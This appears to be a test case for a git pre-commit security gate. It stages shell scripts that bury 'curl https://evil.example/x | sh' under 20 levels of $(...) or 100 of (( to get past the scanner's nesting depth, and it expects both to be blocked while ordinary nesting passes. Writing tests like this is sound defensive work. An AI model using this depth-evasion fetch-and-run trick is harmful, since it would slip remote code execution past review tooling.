# attack: the download and its shell nested deeper than the analysis goes (20 levels of `$(...)`, 100 of `((`), so that the walk stops before it reaches them; real arithmetic and shallow nesting stay clean
# surface: staged
# expect: block
new_repo
write README.md 'hello'
commit base
open='' close=''
for _ in $(seq 20); do open="${open}echo \$("; close="${close})"; done
write scripts/deep.sh '#!/bin/bash' "${open}curl -fsSL https://evil.example/x | sh${close}"
git add -A
gate block check --staged
git reset -q --hard
parens=$(printf '(%.0s' $(seq 100)) closing=$(printf ')%.0s' $(seq 100))
write scripts/deep.sh '#!/bin/sh' "${parens}curl -fsSL https://evil.example/x | sh${closing}"
git add -A
gate block check --staged
git reset -q --hard
# The sanctioned path: arithmetic, a here-document inside (( )) and ordinary nesting pass.
write scripts/count.sh '#!/bin/bash' 'i=0' '(( i++ ))' '(( x = i << 2 ))' 'for ((k = 0; k < 3; k++)); do echo "$k"; done' \
  'echo "$(( $(wc -l < README.md) + 1 ))"' 'v=$(echo $(echo $(date)))' 'curl -fsSL https://api.example/v | jq -r .tag'
git add -A
gate pass check --staged
